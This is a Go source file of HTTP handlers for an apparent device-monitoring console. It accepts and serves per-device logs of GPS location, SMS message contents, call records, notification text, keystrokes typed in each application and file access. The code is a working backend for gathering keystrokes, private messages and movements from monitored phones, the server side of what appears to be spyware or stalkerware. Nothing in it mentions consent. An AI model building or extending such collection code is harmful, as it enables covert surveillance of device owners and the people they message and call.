package http

import (
	"net/http"
	"strconv"
	"time"

	"github.com/gin-gonic/gin"

	z "github.com/Oudwins/zog"

	"fleetpanel.dev/device-console-service/pkg/console"
	"fleetpanel.dev/device-console-service/pkg/models"
)

const (
	LogCategoryLocation     = "location"
	LogCategorySms          = "sms"
	LogCategoryCall         = "call"
	LogCategoryNotification = "notification"
	LogCategoryKeylog       = "keylog"
	LogCategoryFile         = "file"

	// Older device clients ingest file events at /logs/file-access;
	// queries only ever use "file".
	LogCategoryFileAccess = "file-access"
)

type LocationLogRequest struct {
	DeviceID  string    `json:"device_id"`
	Latitude  float64   `json:"latitude"`
	Longitude float64   `json:"longitude"`
	Accuracy  *float64  `json:"accuracy"`
	Timestamp time.Time `json:"timestamp"`
}

var locationLogRequestSchema = z.Struct(z.Shape{
	"DeviceID":  z.String().Required(),
	"Latitude":  z.Float64().GTE(-90).LTE(90).Required(),
	"Longitude": z.Float64().GTE(-180).LTE(180).Required(),
})

type SmsLogRequest struct {
	DeviceID    string    `json:"device_id"`
	PhoneNumber string    `json:"phone_number"`
	ContactName *string   `json:"contact_name"`
	Message     string    `json:"message"`
	Type        string    `json:"type"`
	Timestamp   time.Time `json:"timestamp"`
}

var smsLogRequestSchema = z.Struct(z.Shape{
	"DeviceID":    z.String().Required(),
	"PhoneNumber": z.String().Required(),
	"Message":     z.String().Required(),
	"Type":        z.String().Required(),
})

type CallLogRequest struct {
	DeviceID    string    `json:"device_id"`
	PhoneNumber string    `json:"phone_number"`
	ContactName *string   `json:"contact_name"`
	Type        string    `json:"type"`
	Duration    *int      `json:"duration"`
	Status      *string   `json:"status"`
	Timestamp   time.Time `json:"timestamp"`
}

var callLogRequestSchema = z.Struct(z.Shape{
	"DeviceID":    z.String().Required(),
	"PhoneNumber": z.String().Required(),
	"Type":        z.String().Required(),
})

type NotificationLogRequest struct {
	DeviceID  string    `json:"device_id"`
	AppName   string    `json:"app_name"`
	Title     *string   `json:"title"`
	Text      *string   `json:"text"`
	Timestamp time.Time `json:"timestamp"`
}

var notificationLogRequestSchema = z.Struct(z.Shape{
	"DeviceID": z.String().Required(),
	"AppName":  z.String().Required(),
})

type KeyLogRequest struct {
	DeviceID    string    `json:"device_id"`
	Application string    `json:"application"`
	Text        string    `json:"text"`
	Timestamp   time.Time `json:"timestamp"`
}

var keyLogRequestSchema = z.Struct(z.Shape{
	"DeviceID":    z.String().Required(),
	"Application": z.String().Required(),
	"Text":        z.String().Required(),
})

type FileLogRequest struct {
	DeviceID  string    `json:"device_id"`
	Path      string    `json:"path"`
	Operation string    `json:"operation"`
	Size      *int      `json:"size"`
	Timestamp time.Time `json:"timestamp"`
}

var fileLogRequestSchema = z.Struct(z.Shape{
	"DeviceID":  z.String().Required(),
	"Path":      z.String().Required(),
	"Operation": z.String().Required(),
})

// PostLog ingests one log entry; the category in the path selects the
// table. An unknown category is a 404, matching the route-not-found
// contract the admin clients rely on.
func (rs *RestfulServer) PostLog(c *gin.Context) {
	switch c.Param("category") {
	case LogCategoryLocation:
		rs.postLocationLog(c)
	case LogCategorySms:
		rs.postSmsLog(c)
	case LogCategoryCall:
		rs.postCallLog(c)
	case LogCategoryNotification:
		rs.postNotificationLog(c)
	case LogCategoryKeylog:
		rs.postKeyLog(c)
	case LogCategoryFile, LogCategoryFileAccess:
		rs.postFileLog(c)
	default:
		c.JSON(http.StatusNotFound, gin.H{"error": "unknown log category"})
	}
}

func (rs *RestfulServer) postLocationLog(c *gin.Context) {
	var req LocationLogRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": err.Error()})
		return
	}
	if errs := locationLogRequestSchema.Validate(&req); errs != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": errs})
		return
	}

	if !rs.CheckDeviceLimiter(req.DeviceID) {
		c.Status(http.StatusTooManyRequests)
		return
	}

	err := rs.Console.Logs.IngestLocation(req.DeviceID, &models.DeviceLocation{
		Latitude:  req.Latitude,
		Longitude: req.Longitude,
		Accuracy:  req.Accuracy,
		Timestamp: req.Timestamp,
	})
	if err != nil {
		abortWithError(c, err)
		return
	}

	c.JSON(http.StatusCreated, gin.H{"status": "logged"})
}

func (rs *RestfulServer) postSmsLog(c *gin.Context) {
	var req SmsLogRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": err.Error()})
		return
	}
	if errs := smsLogRequestSchema.Validate(&req); errs != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": errs})
		return
	}

	if !rs.CheckDeviceLimiter(req.DeviceID) {
		c.Status(http.StatusTooManyRequests)
		return
	}

	err := rs.Console.Logs.IngestSms(req.DeviceID, &models.SmsLog{
		PhoneNumber: req.PhoneNumber,
		ContactName: req.ContactName,
		Message:     req.Message,
		Type:        req.Type,
		Timestamp:   req.Timestamp,
	})
	if err != nil {
		abortWithError(c, err)
		return
	}

	c.JSON(http.StatusCreated, gin.H{"status": "logged"})
}

func (rs *RestfulServer) postCallLog(c *gin.Context) {
	var req CallLogRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": err.Error()})
		return
	}
	if errs := callLogRequestSchema.Validate(&req); errs != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": errs})
		return
	}

	if !rs.CheckDeviceLimiter(req.DeviceID) {
		c.Status(http.StatusTooManyRequests)
		return
	}

	err := rs.Console.Logs.IngestCall(req.DeviceID, &models.CallLog{
		PhoneNumber: req.PhoneNumber,
		ContactName: req.ContactName,
		Type:        req.Type,
		Duration:    req.Duration,
		Status:      req.Status,
		Timestamp:   req.Timestamp,
	})
	if err != nil {
		abortWithError(c, err)
		return
	}

	c.JSON(http.StatusCreated, gin.H{"status": "logged"})
}

func (rs *RestfulServer) postNotificationLog(c *gin.Context) {
	var req NotificationLogRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": err.Error()})
		return
	}
	if errs := notificationLogRequestSchema.Validate(&req); errs != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": errs})
		return
	}

	if !rs.CheckDeviceLimiter(req.DeviceID) {
		c.Status(http.StatusTooManyRequests)
		return
	}

	err := rs.Console.Logs.IngestNotification(req.DeviceID, &models.NotificationLog{
		AppName:   req.AppName,
		Title:     req.Title,
		Text:      req.Text,
		Timestamp: req.Timestamp,
	})
	if err != nil {
		abortWithError(c, err)
		return
	}

	c.JSON(http.StatusCreated, gin.H{"status": "logged"})
}

func (rs *RestfulServer) postKeyLog(c *gin.Context) {
	var req KeyLogRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": err.Error()})
		return
	}
	if errs := keyLogRequestSchema.Validate(&req); errs != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": errs})
		return
	}

	if !rs.CheckDeviceLimiter(req.DeviceID) {
		c.Status(http.StatusTooManyRequests)
		return
	}

	err := rs.Console.Logs.IngestKeylog(req.DeviceID, &models.KeyLog{
		Application: req.Application,
		Text:        req.Text,
		Timestamp:   req.Timestamp,
	})
	if err != nil {
		abortWithError(c, err)
		return
	}

	c.JSON(http.StatusCreated, gin.H{"status": "logged"})
}

func (rs *RestfulServer) postFileLog(c *gin.Context) {
	var req FileLogRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": err.Error()})
		return
	}
	if errs := fileLogRequestSchema.Validate(&req); errs != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": errs})
		return
	}

	if !rs.CheckDeviceLimiter(req.DeviceID) {
		c.Status(http.StatusTooManyRequests)
		return
	}

	err := rs.Console.Logs.IngestFile(req.DeviceID, &models.FileLog{
		Path:      req.Path,
		Operation: req.Operation,
		Size:      req.Size,
		Timestamp: req.Timestamp,
	})
	if err != nil {
		abortWithError(c, err)
		return
	}

	c.JSON(http.StatusCreated, gin.H{"status": "logged"})
}

func queryWindow(c *gin.Context, defaultLimit int) (cutoff time.Time, limit int) {
	cutoff = console.ResolveWindow(c.DefaultQuery("range", console.DefaultRangeToken))
	limit, err := strconv.Atoi(c.DefaultQuery("limit", strconv.Itoa(defaultLimit)))
	if err != nil || limit <= 0 {
		limit = defaultLimit
	}
	return cutoff, limit
}

func (rs *RestfulServer) GetDeviceLocations(c *gin.Context) {
	deviceID := c.Param("device_id")
	cutoff, limit := queryWindow(c, console.DefaultLocationLimit)

	entries, err := rs.Console.Logs.QueryLocations(deviceID, cutoff, limit)
	if err != nil {
		abortWithError(c, err)
		return
	}

	c.JSON(http.StatusOK, entries)
}

func (rs *RestfulServer) GetDeviceLogs(c *gin.Context) {
	deviceID := c.Param("device_id")
	cutoff, limit := queryWindow(c, console.DefaultLogLimit)

	var entries any
	var err error
	switch c.Param("category") {
	case LogCategoryLocation:
		entries, err = rs.Console.Logs.QueryLocations(deviceID, cutoff, limit)
	case LogCategorySms:
		entries, err = rs.Console.Logs.QuerySms(deviceID, cutoff, limit)
	case LogCategoryCall:
		entries, err = rs.Console.Logs.QueryCalls(deviceID, cutoff, limit)
	case LogCategoryNotification:
		entries, err = rs.Console.Logs.QueryNotifications(deviceID, cutoff, limit)
	case LogCategoryKeylog:
		entries, err = rs.Console.Logs.QueryKeylogs(deviceID, cutoff, limit)
	case LogCategoryFile:
		entries, err = rs.Console.Logs.QueryFiles(deviceID, cutoff, limit)
	default:
		c.JSON(http.StatusNotFound, gin.H{"error": "unknown log category"})
		return
	}
	if err != nil {
		abortWithError(c, err)
		return
	}

	c.JSON(http.StatusOK, entries)
}
